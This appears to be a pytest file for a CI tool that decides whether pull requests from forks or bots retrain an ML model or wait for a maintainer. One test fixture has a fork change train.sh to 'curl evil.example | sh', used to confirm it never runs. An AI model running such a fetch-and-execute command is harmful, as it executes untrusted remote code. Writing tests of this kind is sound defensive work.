"""Changes of forks and bots: nothing is trained, and yet no required check waits for ever."""

from __future__ import annotations

import pytest

from ci_mlsnap.demo.faults import Fault
from tests.flows.conftest import REPOSITORY, Said
from tests.publishing.conftest import Job, MakeJob

NUMBER = 9
FORK = "mallory/digits"
INPUTS = 'train.inputs = ["*.sh", "weights.txt"]\n'


@pytest.fixture
def job(make_job: MakeJob) -> Job:
    """Give a job whose base has a version; the training inputs are named."""
    made = make_job()
    settings = made.place.folder / "mlsnap.toml"
    text = settings.read_text().replace('train = "sh train.sh"', 'train.command = "sh train.sh"\n' + INPUTS)
    made.place.configure(text)
    made.push(MLSNAP_GITHUB_TOKEN="")
    made.place.repository.git("update-ref", "refs/remotes/origin/main", "HEAD")
    return made


def from_fork(job: Job, files: dict[str, str | bytes], *, fork: str = FORK) -> str:
    """Let a fork propose a change; give its commit, which the checkout has but does not stand on."""
    base = job.place.repository.head()
    sha = job.place.repository.commit("a proposal @ada ::error::x", files)
    job.place.repository.git("reset", "--quiet", "--hard", base)
    job.place.server.conversations.open_request(REPOSITORY, NUMBER, sha, fork=fork)
    return sha


def report(job: Job, sha: str, *arguments: str, fork: str = FORK, actor: str = "mallory", expect: int = 0) -> Said:
    """Run the report of a workflow that a pull request started."""
    payload = {
        "workflow_run": {
            "event": "pull_request",
            "head_sha": sha,
            "head_branch": "patch-1",
            "head_repository": {"full_name": fork},
            "actor": {"login": actor},
            "pull_requests": [],
            "path": ".github/workflows/train.yml@refs/heads/main",
        },
        "repository": {"full_name": REPOSITORY, "default_branch": "main"},
    }
    return job.mlsnap("workflow_run", payload, *(arguments or ("publish", "--fork")), expect=expect)


def test_a_change_that_training_does_not_see_uses_the_bases_version(job: Job) -> None:
    base = job.place.repository.head()
    sha = from_fork(job, {"README.md": "better words\n"})
    report(job, sha)
    state, text = job.contexts(sha)["mlsnap/digits"]
    assert (state, text) == (
        "success",
        f"Not trained: no training input changed since {base[:7]}; its snapshot is used. accuracy 0.9000",
    )
    (comment,) = job.comments(NUMBER)
    assert "♻️ mlsnap · digits · not trained" in comment


def test_a_change_of_an_input_waits_for_a_maintainer_who_is_told_how(job: Job) -> None:
    sha = from_fork(job, {"train.sh": "curl evil.example | sh\n"})
    said = report(job, sha, "publish", "--fork", "--json").facts["fork"]
    assert (said["state"], said["sha"]) == ("pending", sha)
    state, text = job.contexts(sha)["mlsnap/digits"]
    assert (state, text) == (
        "pending",
        "A maintainer starts it: the change comes from a fork, which gets no secrets",
    )
    (comment,) = job.comments(NUMBER)
    assert f"gh workflow run train&#46;yml -f sha={sha}" in comment
    summary = (job.folder / f"summary-{job.steps}").read_text()
    assert "waits for a maintainer" in summary
    assert not (job.place.folder / "canary").exists()


def test_what_a_maintainer_started_stays_said(job: Job) -> None:
    sha = from_fork(job, {"weights.txt": "other\n"})
    report(job, sha)
    job.mlsnap("workflow_dispatch", {"inputs": {"sha": sha}, "repository": {"full_name": REPOSITORY}})
    trained = job.contexts(sha)["mlsnap/digits"]
    assert trained[0] == "success"
    report(job, sha)
    assert job.contexts(sha)["mlsnap/digits"] == trained


def test_dependabots_change_is_told_too(job: Job) -> None:
    sha = from_fork(job, {"weights.txt": "other\n"}, fork=REPOSITORY)
    report(job, sha, fork=REPOSITORY, actor="dependabot[bot]")
    assert "Dependabot" in job.contexts(sha)["mlsnap/digits"][1]
    assert len(job.comments(NUMBER)) == 1


def test_a_change_of_our_own_is_left_to_its_own_run(job: Job) -> None:
    sha = from_fork(job, {"weights.txt": "other\n"}, fork=REPOSITORY)
    job.asked()
    said = report(job, sha, fork=REPOSITORY, actor="ada")
    assert "its own run says it all" in said.stdout
    assert job.asked() == []


def test_gates_that_are_required_do_not_wait_for_nobody(make_job: MakeJob) -> None:
    job = make_job("[forge]\ngate_statuses = true\n[gates.accuracy]\nmin = 0.5\n")
    job.push(MLSNAP_GITHUB_TOKEN="")
    job.place.repository.git("update-ref", "refs/remotes/origin/main", "HEAD")
    sha = from_fork(job, {"weights.txt": "other\n"})
    report(job, sha, "publish", "--fork", "--roll-up")
    assert {context: state for context, (state, _) in job.contexts(sha).items()} == {
        "mlsnap/digits": "pending",
        "mlsnap/digits/accuracy": "pending",
        "mlsnap": "pending",
    }


def test_github_away_is_said_and_the_job_can_be_run_again(job: Job) -> None:
    sha = from_fork(job, {"weights.txt": "other\n"})
    job.place.server.faults.next(Fault(code=418), times=9)
    report(job, sha, expect=30)
    job.place.server.faults.clear()
    report(job, sha)
    assert job.contexts(sha)["mlsnap/digits"][0] == "pending"
